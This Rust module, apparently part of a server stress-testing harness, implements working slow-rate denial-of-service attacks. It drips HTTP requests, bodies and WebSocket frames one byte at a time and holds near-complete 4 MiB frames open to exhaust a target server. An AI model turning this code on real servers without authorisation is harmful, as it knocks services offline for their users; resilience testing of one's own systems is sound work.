//! Sends requests, bodies and frames that are never complete.

use super::crew::{Attacker, Crew};
use anyhow::Result;
use std::{future::pending, time::Duration};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    time::sleep,
};

/// The time between two bytes of an attacker that sends one byte at a time.
const DROP: Duration = Duration::from_millis(500);

/// The length of the longest frame that the server accepts, in bytes.
const FRAME: u64 = 4 << 20;
/// The number of bytes that an attacker sends of the longest frame, which is one byte less than its length.
const MOST_OF_IT: usize = (4 << 20) - 1;

/// The number of bytes in one write of an attacker that sends almost a whole frame.
const PART: usize = 64 << 10;

/// Starts `count` attackers that send one byte at a time. One third of them send a request, one third a body, and one
/// third a frame.
pub(super) fn drops(crew: &mut Crew, count: usize) {
    crew.again_and_again(count, |attacker| {
        Box::pin(async move {
            let host = attacker.target.server;
            let mut stream = attacker.connect().await?;
            match attacker.number % 3 {
                0 => {
                    drip(&mut stream, format!("GET / HTTP/1.1\r\nHost: {host}\r\nX-Long: ").as_bytes(), &attacker).await
                }
                1 => {
                    let head = format!("POST /api/tables HTTP/1.1\r\nHost: {host}\r\nContent-Length: 16000000\r\n\r\n");
                    drip(&mut stream, head.as_bytes(), &attacker).await
                }
                _ => {
                    upgrade(&mut stream, &attacker).await?;
                    drip(&mut stream, &head_of_a_frame(), &attacker).await
                }
            }
        })
    });
}

/// Starts a tenth as many attackers as `count`. Each of them sends the longest frame without its last byte.
pub(super) fn hoards(crew: &mut Crew, count: usize) {
    crew.once(count.div_ceil(10), |attacker| {
        Box::pin(async move {
            let mut stream = attacker.connect().await?;
            upgrade(&mut stream, &attacker).await?;
            stream.write_all(&head_of_a_frame()).await?;
            let part = vec![b' '; PART];
            let mut left = MOST_OF_IT;
            while left > 0 {
                let now = left.min(PART);
                stream.write_all(&part[..now]).await?;
                attacker.sent();
                left -= now;
            }
            let _held = stream;
            pending().await
        })
    });
}

async fn drip(stream: &mut TcpStream, head: &[u8], attacker: &Attacker) -> Result<()> {
    stream.write_all(head).await?;
    loop {
        stream.write_all(b"x").await?;
        attacker.sent();
        sleep(DROP).await;
    }
}

/// Requests the upgrade of the connection to a WebSocket, and waits for the answer.
async fn upgrade(stream: &mut TcpStream, attacker: &Attacker) -> Result<()> {
    let request = format!(
        "GET /socket HTTP/1.1\r\nHost: {}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\
         Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
        attacker.target.server
    );
    stream.write_all(request.as_bytes()).await?;
    let mut answer = [0; 12];
    stream.read_exact(&mut answer).await?;
    anyhow::ensure!(&answer == b"HTTP/1.1 101", "no socket");
    Ok(())
}

/// Returns the header of a masked text frame of [`FRAME`] bytes. The mask is all zeros.
fn head_of_a_frame() -> Vec<u8> {
    [&[0x81, 0xff][..], &FRAME.to_be_bytes(), &[0; 4]].concat()
}
